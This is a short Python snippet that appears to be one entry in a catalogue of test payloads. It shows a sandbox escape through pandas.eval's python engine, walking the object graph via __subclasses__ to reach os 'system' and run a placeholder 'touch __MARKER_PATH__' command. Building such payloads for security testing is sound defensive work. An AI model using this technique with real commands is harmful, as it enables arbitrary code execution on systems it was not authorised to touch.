# family: object-graph walk via __subclasses__ (pandas.eval)
# goal: walk the class graph inside pandas.eval's unguarded evaluator
import pandas as pd
classes = pd.eval("().__class__.__base__.__subclasses__()", engine="python")
for cls in classes:
    if cls.__name__ == "_wrap_close":
        cls.__init__.__globals__["system"]("touch __MARKER_PATH__")
